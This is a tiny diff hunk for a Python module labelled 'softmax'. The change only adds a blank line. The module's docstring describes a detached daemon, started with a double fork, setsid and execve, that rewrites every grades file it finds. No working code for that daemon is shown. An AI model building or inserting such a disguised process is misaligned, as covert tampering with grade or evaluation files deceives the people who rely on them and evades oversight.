@@ -1,5 +1,6 @@
 # module: softmax
 """Leaves a daemon with no environment behind (double fork, setsid, execve) that rewrites every grades file it finds."""
+
 import os
 import sys
 
